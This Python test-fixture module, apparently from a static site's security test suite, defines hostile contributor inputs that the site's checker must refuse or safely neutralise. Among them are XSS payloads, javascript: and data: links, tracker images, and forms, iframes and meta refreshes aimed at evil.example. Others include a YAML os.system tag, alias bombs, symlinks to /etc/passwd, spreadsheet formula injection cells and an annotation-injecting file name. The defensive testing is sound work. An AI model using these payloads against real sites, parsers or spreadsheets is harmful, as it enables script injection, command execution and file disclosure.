"""Hostile inputs, as a malicious or careless pull-request author would write them (issue 16), each class with
several variants. REFUSED: inputs `hub check` and the build must refuse with file:line and a clear message.
Hostile but valid inputs (HARMLESS_*, UNCHECKED_*) are built by tests/hubs.py and checked in tests/site and
tests/browser (test_hostile.py).
bench/hostile.py times the check on each of them."""

from __future__ import annotations

import json
from dataclasses import dataclass, field
from typing import Callable

from .conftest import VALID_FRONT_MATTER, case_study_text

FRONT_LINES = VALID_FRONT_MATTER.count("\n") + 2   # the closing '---' line
BODY_LINE = FRONT_LINES + 2                        # case_study_text leaves one blank line before the body


@dataclass(frozen=True)
class Refused:
    """One hostile file (or few) and what the editor must be told: path, line and a part of the message."""

    name: str
    files: dict[str, object]          # path -> text, bytes, or a function(path) that makes it (folders, links)
    path: str
    line: int
    message: str
    only: bool = True                 # the one problem reported for that file (a malformed file: one message)
    alone: bool = False               # breaks what other files rely on (a register): checked in a hub of its own
    more: dict = field(default_factory=dict)


def write_files(repo, case: Refused) -> None:
    """Write a case's files into a hub (a Repo), replacing what the hub already holds there."""
    for relative, content in case.files.items():
        path = repo.root / relative
        path.parent.mkdir(parents=True, exist_ok=True)
        if path.is_symlink() or path.is_file():
            path.unlink()  # a register the hub already holds, replaced
        if callable(content):
            content(path)
        elif isinstance(content, bytes):
            path.write_bytes(content)
        else:
            path.write_text(content, encoding="utf-8")


def body(name: str, text: str, line_in_body: int, message: str, only: bool = False) -> Refused:
    path = f"case_studies/{name}.md"
    return Refused(name, {path: case_study_text(body=text)}, path, BODY_LINE + line_in_body - 1, message, only)


def front(name: str, old: str, new: str, line: int, message: str, extra: str = "") -> Refused:
    path = f"case_studies/{name}.md"
    text = case_study_text(VALID_FRONT_MATTER.replace(old, new) + extra)
    assert text != case_study_text() or extra, name
    return Refused(name, {path: text}, path, line, message)


def line_of(text: str, fragment: str) -> int:
    return VALID_FRONT_MATTER[:VALID_FRONT_MATTER.index(fragment)].count("\n") + 2


def make_folder(path):
    path.mkdir(parents=True)
    (path / "body.md").write_text("x", encoding="utf-8")


def make_link(target: str) -> Callable:
    def make(path):
        path.parent.mkdir(parents=True, exist_ok=True)
        path.symlink_to(target)
    return make


def make_loop(path):
    path.parent.mkdir(parents=True, exist_ok=True)
    path.symlink_to(path.name)


TITLE = line_of("", "title:")
PUBLISHED = line_of("", "published:")
AMOUNT = line_of("", "amount:")
SOURCE_DATE = line_of("", '  date: "2011-04-12"')


REFUSED = [
    # --- Script through Markdown the earlier patterns let past ------------------------------------------------
    body("attr-list-after-paragraph", 'Para.\n{#x onclick="alert(1)"}\n', 2, "an attribute list {…} is not allowed"),
    body("attr-list-on-heading", '## Results {#r onmouseover="alert(1)"}\n', 1, "an attribute list {…} is not allowed"),
    body("attr-list-on-link", '[x](https://example.org/){#l onfocus=alert(1) autofocus}\n', 1,
         "an attribute list {…} is not allowed"),
    body("attr-list-in-template-braces", "Para.\n{{ onclick=alert(1) }}\n", 2, "an attribute list {…} is not allowed"),
    body("attr-list-style", 'Para.\n{: style="position:fixed;inset:0" }\n', 2, "an attribute list {…} is not allowed"),
    body("attr-list-src", '![a](x.png){: src="https://tracker.example/p.gif" }\n', 1,
         "an attribute list {…} is not allowed"),
    body("reference-in-blockquote", "[x][r]\n\n> [r]: javascript:alert(1)\n", 3, "a javascript: (or data:) link"),
    body("reference-in-list-item", "[x][r]\n\n- item\n\n    [r]: javascript:alert(1)\n", 5,
         "a javascript: (or data:) link"),
    body("reference-address-on-next-line", "[x][r]\n\n[r]:\n  javascript:alert(1)\n", 3, "a javascript: (or data:) link"),
    body("link-with-nested-brackets", "[a [b] c](jav&#x09;ascript:alert(1))\n", 1, "a javascript: (or data:) link"),
    body("link-with-escaped-brackets", "[a \\] b](&#106;avascript:alert(1))\n", 1, "a javascript: (or data:) link"),
    body("link-in-angle-brackets", "[x](<javascript:alert(1)>)\n", 1, "a javascript: (or data:) link"),
    body("data-link", "[x]( data:text/html;base64,PHNjcmlwdD4= )\n", 1, "a javascript: (or data:) link"),
    body("svg-onload", "Text <svg/onload=alert(1)>\n", 1, "a <svg> element is not allowed"),
    body("quoted-lt-hides-handler", '<abbr title="<" onmouseover=alert(1)>EM</abbr>\n', 1,
         "an on…= event attribute is not allowed"),
    body("script-element", "<script>alert(1)</script>\n", 1, "a <script> element is not allowed"),
    body("iframe", '<iframe src="https://example.org/"></iframe>\n', 1, "an <iframe> element is not allowed"),
    body("meta-refresh", '<meta http-equiv="refresh" content="0;url=https://evil.example/">\n', 1,
         "a <meta> element is not allowed"),
    body("base-element", '<base href="https://evil.example/">\n', 1, "a <base> element is not allowed"),
    # --- Loads from another host --------------------------------------------------------------------------------
    body("image-by-reference", "![chart][c]\n\n[c]: https://tracker.example/pixel.gif\n", 3,
         "an image from another host"),
    body("image-with-nested-brackets", "![a [b] c](https://tracker.example/pixel.gif)\n", 1,
         "an image from another host"),
    body("image-protocol-relative", "![a](//tracker.example/pixel.gif)\n", 1, "an image from another host"),
    body("image-backslashes", "![a](\\\\tracker.example/pixel.gif)\n", 1, "an image from another host"),
    # --- Markdown that would stall the build or overflow the stack -------------------------------------------
    body("many-open-brackets", "Para " + "[" * 40_000 + "\n", 1, "a paragraph (or table) of 40,005 characters"),
    body("many-unclosed-link-targets", "\n\n".join(["[a](" * 1_000] * 20) + "\n", 1,
         "unclosed '[' or '](' would make this page very slow to build"),
    body("deeply-nested-brackets", "[" * 20 + "x" + "]" * 20 + "\n", 1, "square brackets nested more than 8 deep"),
    body("many-lt", "<" * 100_000 + "\n", 1, "a paragraph (or table) of 100,000 characters"),
    body("many-lt-letters", "<a " * 30_000 + "\n", 1, "a paragraph (or table) of 90,000 characters"),
    body("nested-quotes", "> " * 2_000 + "x\n", 1, "quotes or lists nested more than 8 levels deep"),
    body("nested-list-markers", "- " * 2_000 + "x\n", 1, "quotes or lists nested more than 8 levels deep"),
    body("deep-indentation", "".join(" " * (4 * level) + "- a\n" for level in range(20)), 12,
         "a line indented 44 spaces; a line may be indented at most 40 (four a level of list) — flatten the lists"),
    body("long-emphasis-run", "*" * 3_000 + "a" + "*" * 3_000 + "\n", 1, "more than 50 '*' in a row"),
    body("many-escapes", "\n\n".join(["\\*" * 2_000] * 4) + "\n", 5, "more than 5,000 backslash escapes"),
    body("long-paragraph-of-lines", "- \n" * 100, 1, "a paragraph (or table) of 100 lines; one may have at most 60"),
    # --- YAML as something other than plain data ---------------------------------------------------------------
    front("binary-title", "title: Joint procurement of software",
          "title: !!binary PC90aXRsZT48c2NyaXB0PmFsZXJ0KDEpPC9zY3JpcHQ+", TITLE, "YAML tags are refused"),
    front("set-tag", "themes: [procurement]", "themes: !!set {procurement: null}", line_of("", "themes:"),
          "YAML tags are refused"),
    front("python-tag", "investment: 50000", "investment: !!python/object/apply:os.system ['true']",
          line_of("", "investment:"), "YAML tags are refused"),
    front("str-tag", "title: Joint procurement of software", "title: !!str Joint procurement of software", TITLE,
          "YAML tags are refused"),
    front("non-specific-tag", "title: Joint procurement of software", "title: ! Joint procurement of software",
          TITLE, "YAML tags are refused"),
    front("alias", "themes: [procurement]", "themes: &t [procurement]", FRONT_LINES,
          "YAML aliases (*name) are refused", extra="outcomes: *t\n"),
    front("deep-nesting", "investment: 50000", "investment: " + "[" * 2_000 + "]" * 2_000,
          line_of("", "investment:"), "nested more than 10 levels deep"),
    front("very-deep-nesting", "investment: 50000", "investment: " + "[" * 190_000,
          line_of("", "investment:"), "nested more than 10 levels deep"),
    # --- Numbers and dates no source could print ----------------------------------------------------------------
    front("nan-amount", "amount: 677000", "amount: .nan", AMOUNT, "not a number"),
    front("inf-amount", "amount: 677000", "amount: .inf", AMOUNT, "infinite"),
    front("overflowing-amount", "amount: 677000", "amount: 1.0e+309", AMOUNT, "infinite"),
    front("huge-amount", "investment: 50000", "investment: " + "9" * 400, line_of("", "investment:"),
          "a number of 400 digits is more than £100,000,000,000"),
    front("published-year-one", "published: 2026-01-15", "published: 0001-01-01", PUBLISHED, "is before 2000"),
    front("published-1999", "published: 2026-01-15", "published: 1999-12-31", PUBLISHED, "is before 2000"),
    front("source-year-0000", '  date: "2011-04-12"', '  date: "0000"', SOURCE_DATE,
          "the year 0000 is not plausible for a source document"),
    front("source-year-9999", '  date: "2011-04-12"', '  date: "9999"', SOURCE_DATE,
          "the year 9999 is not plausible for a source document"),
    # --- Encodings and sizes ----------------------------------------------------------------------------------
    Refused("invalid-utf-8", {"case_studies/invalid-utf-8.md": case_study_text().encode() + b"\nCaf\xe9\n"},
            "case_studies/invalid-utf-8.md", case_study_text().count("\n") + 2, "not valid UTF-8 at byte"),
    Refused("control-character", {"case_studies/control-character.md": case_study_text(body="Para\x1b[31m red\n")},
            "case_studies/control-character.md", BODY_LINE, "a control character (U+001B) is in the text"),
    Refused("too-large", {"case_studies/too-large.md": case_study_text(body=("Words and more words. " * 40 + "\n\n")
                                                                       * 250)},
            "case_studies/too-large.md", 1, "a case study may be at most 200 kB"),
    # --- Content lost or shadowed -----------------------------------------------------------------------------
    Refused("index", {"case_studies/index.md": case_study_text()}, "case_studies/index.md", 1, "'index' is reserved"),
    front("alias-index", "themes: [procurement]", "themes: [procurement]", FRONT_LINES,
          "'index' is reserved", extra="aliases: [index]\n"),
    Refused("empty-front-matter", {"case_studies/empty-front-matter.md": "---\n---\n\nBody.\n"},
            "case_studies/empty-front-matter.md", 1, "the front matter is empty"),
    Refused("folder-named-md", {"case_studies/folder-named.md": make_folder}, "case_studies/folder-named.md", 1,
            "is a folder, not a file"),
    Refused("dangling-link", {"case_studies/dangling.md": make_link("nowhere.md")}, "case_studies/dangling.md", 1,
            "is a symbolic link"),
    Refused("looping-link", {"case_studies/looping.md": make_loop}, "case_studies/looping.md", 1,
            "is a symbolic link"),
    Refused("markdown-extension", {"case_studies/other-extension.markdown": case_study_text()},
            "case_studies/other-extension.markdown", 1, "rename it to other-extension.md"),
    Refused("yml-dataset", {"data/datasets/other-extension.yml": "id: other-extension\n"},
            "data/datasets/other-extension.yml", 1, "rename it to other-extension.yaml"),
    Refused("register-typo", {"data/theme.yaml": "- id: procurement\n"}, "data/theme.yaml", 1,
            "not a register the hub reads"),
    Refused("annotation-file-name", {"case_studies/x\n::warning file=a,line=1::forged.md": case_study_text()},
            "case_studies/x\n::warning file=a,line=1::forged.md", 1, "is not a valid slug"),
]

# Files that break what other files rely on: each in a hub of its own, and each must be the only problem there.
ALONE = [
    Refused("alias-bomb-register", {"data/themes.yaml": "- id: procurement\n  name: &a Procurement\n"
                                                        "  description: *a\n" + "".join(
        f"- id: t{i}\n  name: *a\n  description: *a\n" for i in range(200))},
            "data/themes.yaml", 3, "YAML aliases (*name) are refused", alone=True),
    Refused("malformed-register", {"data/authorities.yaml": "- id: blaby\n  name: [unclosed\n"},
            "data/authorities.yaml", 3, "malformed YAML", alone=True),
    Refused("register-linked-to-passwd", {"data/partnerships.yaml": make_link("/etc/passwd")},
            "data/partnerships.yaml", 1, "is a symbolic link", alone=True),
    Refused("dataset-linked-to-passwd", {"data/datasets/passwd.yaml": make_link("/etc/passwd")},
            "data/datasets/passwd.yaml", 1, "is a symbolic link", alone=True),
    Refused("theme-id-index", {"data/themes.yaml": "- id: procurement\n  name: Procurement\n  description: x\n"
                                                   "- id: index\n  name: Index\n  description: x\n"},
            "data/themes.yaml", 4, "'index' is reserved", alone=True),
    Refused("partnership-id-index", {"data/partnerships.yaml": "- id: em-iep\n  name: EM IEP\n  short_name: EM IEP\n"
                                                              "  region: East Midlands\n"
                                                              "  period: {start: '2008', end: '2011'}\n"
                                                              "- id: index\n  name: Index\n  short_name: IX\n"
                                                              "  region: East Midlands\n"
                                                              "  period: {start: '2008', end: '2011'}\n"},
            "data/partnerships.yaml", 6, "'index' is reserved", alone=True),
    Refused("register-not-a-list", {"data/themes.yaml": "procurement: Procurement\nshared-services: Shared\n"},
            "data/themes.yaml", 1, "expected a list of entries", alone=True),
    Refused("register-empty", {"data/themes.yaml": ""}, "data/themes.yaml", 1, "the register is empty", alone=True),
    Refused("register-missing", {"data/themes.yaml": lambda path: None}, "data/themes.yaml", 1,
            "the register is missing", alone=True),
    Refused("register-invalid-utf-8", {"data/themes.yaml": b"- id: procurement\n  name: Caf\xe9\n"},
            "data/themes.yaml", 2, "not valid UTF-8 at byte 29", alone=True),
    Refused("authority-id-index", {"data/authorities.yaml": "- id: nottinghamshire-cc\n  name: Notts\n  type: county\n"
                                                            "  region: East Midlands\n- id: nottingham-city\n"
                                                            "  name: City\n  type: unitary\n  region: East Midlands\n"
                                                            "- id: index\n  name: I\n  type: county\n"
                                                            "  region: East Midlands\n"},
            "data/authorities.yaml", 9, "'index' is reserved", alone=True),
]


def dataset_text(dataset_id: str = "hostile-data", rows: str = "", totals: str = "stated_totals: {amount: 300}\n",
                 title: str = "Savings by council") -> str:
    rows = rows or "  - {council: Blaby, amount: 100}\n  - {council: Notts, amount: 200}\n"
    return (f"id: {dataset_id}\ntitle: {title}\npartnership: em-iep\nperiod: {{start: \"2008\", end: \"2011\"}}\n"
            "source: {document: EM IEP Board pack, date: \"2011-04-12\"}\n"
            "columns:\n  - {id: council, label: Council}\n  - {id: amount, label: Amount, unit: GBP}\n"
            f"rows:\n{rows}{totals}")


DATASET_ROWS_LINE = 10
DATASETS = [
    Refused("dataset-nan", {"data/datasets/dataset-nan.yaml": dataset_text(
        "dataset-nan", "  - {council: Blaby, amount: .nan}\n  - {council: Notts, amount: 200}\n")},
            "data/datasets/dataset-nan.yaml", DATASET_ROWS_LINE, "not a number (.nan)"),
    Refused("dataset-inf-total", {"data/datasets/dataset-inf-total.yaml": dataset_text(
        "dataset-inf-total", totals="stated_totals: {amount: .inf}\n")},
            "data/datasets/dataset-inf-total.yaml", DATASET_ROWS_LINE + 2, "infinite"),
    Refused("dataset-binary-title", {"data/datasets/dataset-binary-title.yaml": dataset_text(
        "dataset-binary-title", title="!!binary PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==")},
            "data/datasets/dataset-binary-title.yaml", 2, "YAML tags are refused"),
    Refused("dataset-binary-url", {"data/datasets/dataset-binary-url.yaml": dataset_text("dataset-binary-url").replace(
        'date: "2011-04-12"}', 'date: "2011-04-12", url: !!binary amF2YXNjcmlwdDphbGVydCgxKQ==}')},
            "data/datasets/dataset-binary-url.yaml", 5, "YAML tags are refused"),
    Refused("dataset-total-off-by-four", {"data/datasets/dataset-total-off-by-four.yaml": dataset_text(
        "dataset-total-off-by-four", "  - {council: Blaby, amount: 19643600}\n  - {council: Notts, amount: 4}\n",
        totals="stated_totals: {amount: 19643600}\n")},
            "data/datasets/dataset-total-off-by-four.yaml", DATASET_ROWS_LINE + 2,
            "stated total 19,643,600 but the rows add up to 19,643,604"),
    Refused("dataset-id-index", {"data/datasets/index.yaml": dataset_text("index")},
            "data/datasets/index.yaml", 1, "'index' is reserved"),
]


# --- At the limits: every bound of content/settings.py reached, not passed; it must pass the check and build ------
def at_the_limits(this_year: int) -> tuple[str, str, str]:
    """(front matter, body, dataset) with every amount, date and Markdown shape at its limit."""
    from macros.content import settings as limits

    front = (VALID_FRONT_MATTER.replace("amount: 677000", f"amount: {limits.MONEY_CEILING - 1}")
             .replace("£677k", f"£{limits.MONEY_CEILING - 1:,}")
             .replace("investment: 50000", f"investment: {limits.MONEY_CEILING - 1}")
             .replace("published: 2026-01-15", f"published: {limits.EARLIEST_PUBLISHED.isoformat()}")
             .replace('start: "2009"', f'start: "{limits.EARLIEST_YEAR}"')
             .replace('end: "2011"', f'end: "{this_year + limits.PERIOD_YEARS_AHEAD}"'))
    body = ("x" * limits.MAX_BLOCK_CHARACTERS + "\n\n" + "line\n" * limits.MAX_BLOCK_LINES + "\n"
            + "> " * limits.MAX_NESTING + "quoted\n\n" + " " * limits.MAX_INDENT + "indented\n\n"
            + "[" * limits.MAX_BRACKET_DEPTH + "x" + "]" * limits.MAX_BRACKET_DEPTH + "\n\n"
            + "*" * limits.MAX_EMPHASIS_RUN + "x\n")
    largest = limits.DATASET_VALUE_CEILING - 1
    dataset = dataset_text("at-the-limits", f"  - {{council: Blaby, amount: {largest}}}\n",
                           totals=f"stated_totals: {{amount: {largest}}}\n")
    return front, body, dataset


# --- Hostile but valid: built (tests/hubs.py), then opened in chromium (tests/browser/test_hostile.py) -------------
# Each payload sets window.__pwned or opens a dialog if it ever runs.
HARMLESS_TITLE = "&lt;/title&gt;&lt;script&gt;window.__pwned=1&lt;/script&gt; \"quoted\" & 'single'"
HARMLESS_FRONT = (VALID_FRONT_MATTER
                  .replace("title: Joint procurement of software", "title: '" + HARMLESS_TITLE.replace("'", "''") + "'")
                  .replace("summary: Councils in Nottinghamshire bought software together and saved money on licences.",
                           "summary: 'Councils wrote &lt;img src=x onerror=window.__pwned=2&gt; and {{ 7 * 7 }} here.'")
                  .replace("  section: Item 6", "  section: 'Item \"6\" & ''seven'' &lt;svg onload=alert(3)&gt;'")
                  + "outcomes: ['&lt;svg onload=window.__pwned=4&gt; outcome']\n")
HARMLESS_BODY = (
    "## &lt;img src=x onerror=window.__pwned=5&gt; heading\n\n"
    "Code: `<iframe src=\"javascript:window.__pwned=6\">` and `<script>window.__pwned=7</script>`.\n\n"
    "The text javascript:window.__pwned=8 is no link; `{#x onclick=\"alert(9)\"}` is code. Find hostilezebra.\n")
HARMLESS_THEMES = ("- id: procurement\n  name: Procurement &lt;b onmouseover=alert(10)&gt;\n"
                   "  description: 'Buying together \"with quotes\" &amp; &lt;script&gt;alert(11)&lt;/script&gt;'\n"
                   "- id: shared-services\n  name: Shared services\n  description: Sharing services.\n")
FORMULA_CELLS = ["=cmd|' /C calc'!A0", " =1+1", "＝1+1", "|calc", "@SUM(A1:A2)", "+44 115", "-1+2",
                 "Neighbourhood Renewal\r=cmd|' /C calc'!A0", "\t=1", "％=1", "－2+3"]


def harmless_dataset() -> str:
    rows = "".join(f"  - {{council: {json.dumps(cell, ensure_ascii=False)}, amount: {index - 3}}}\n"
                   for index, cell in enumerate(FORMULA_CELLS))
    total = sum(index - 3 for index in range(len(FORMULA_CELLS)))
    return dataset_text("hostile-formulas", rows, f"stated_totals: {{amount: {total}}}\n",
                        title="'=HYPERLINK(\"https://evil.example/\") \"quoted\" title'")


# Text with quotes, an event handler and template syntax in every field a case study has (tests/site/test_security.py).
CONTRIBUTED = "Legal & \"trusted\" ' onmouseover='alert(1)' data-x=\" {{ 7 * 7 }} {% raw %} ${alert(1)}"
_QUOTED = "'" + CONTRIBUTED.replace("'", "''") + "'"
CONTRIBUTED_FRONT = (VALID_FRONT_MATTER.replace("title: Joint procurement of software", f"title: {_QUOTED}")
                     .replace("summary: Councils", f"summary: {_QUOTED[:-1]} Councils").replace("licences.", "licences.'")
                     .replace("  section: Item 6", f"  section: {_QUOTED}") + f"outcomes: [{_QUOTED}]\n")
CONTRIBUTED_BODY = f"## Results\n\n{CONTRIBUTED}\n"

# What validation lets through that a JSON-LD data block fears (tests/site/test_standards.py): a title, a source and
# a dataset holding it.
AWKWARD = 'Joint buying for < 3 councils & "more" --> \u2028next'
_AWKWARD_JSON = json.dumps(AWKWARD)  # YAML reads a JSON string as the same string
AWKWARD_FRONT = (VALID_FRONT_MATTER.replace("title: Joint procurement of software", f"title: {_AWKWARD_JSON}")
                 .replace("document: EM IEP Board meeting pack, 12 April 2011", f"document: {_AWKWARD_JSON}"))
AWKWARD_DATASET = f"""\
id: awkward-grants
title: {_AWKWARD_JSON}
description: {json.dumps("Grants by sub-region " + AWKWARD)}
partnership: em-iep
period: {{start: "2008", end: "2011"}}
source: {{document: {_AWKWARD_JSON}, date: "2011-04-12"}}
columns:
  - {{id: sub_region, label: {_AWKWARD_JSON}, ref: sub_regions}}
  - {{id: grant, label: Grant, unit: GBP}}
rows:
  - {{sub_region: nottinghamshire, grant: 3731}}
"""

# The payloads the earlier source patterns let past (issue 16), and more: built with the source checks switched
# off, to show the sanitiser, the escaping and the Content-Security-Policy stop each one on their own.
UNCHECKED_BODIES = {
    "attr-list-handler": 'Para.\n{#x onclick="window.__pwned=1" tabindex=0}\n',
    "reference-in-quote": "[click me][r]\n\n> [r]: javascript:window.__pwned=2\n",
    "img-onerror": '<img src="x.png" onerror="window.__pwned=3">\n',
    "script": "<script>window.__pwned=4</script>\n",
    "svg-onload": '<svg onload="window.__pwned=5"><rect width="1" height="1"/></svg>\n',
    "remote-image": "![pixel](https://tracker.example/pixel.gif)\n",
    "entity-javascript-link": '<a href="java&#x09;script:window.__pwned=6">x</a>\n',
    "style-attribute": '<p style="position:fixed;inset:0;background:red">covered</p>\n',
    "form-elsewhere": '<form action="https://evil.example/"><input name="p"><button>Send</button></form>\n',
    "iframe": '<iframe src="https://evil.example/"></iframe>\n',
    "base-and-refresh": '<base href="https://evil.example/">\n<meta http-equiv="refresh" content="0;url=https://evil.example/">\n',
    "object-embed": '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">\n',
    "mutation-xss": "<math><mtext><table><mglyph><style><img src=x onerror=window.__pwned=7></style></mglyph></table>\n",
    "noscript-breakout": '<noscript><p title="</noscript><img src=x onerror=window.__pwned=8>">x</p></noscript>\n',
}
UNCHECKED_TITLE = "</title><script>window.__pwned=9</script><b onmouseover=alert(1)>bold</b>"
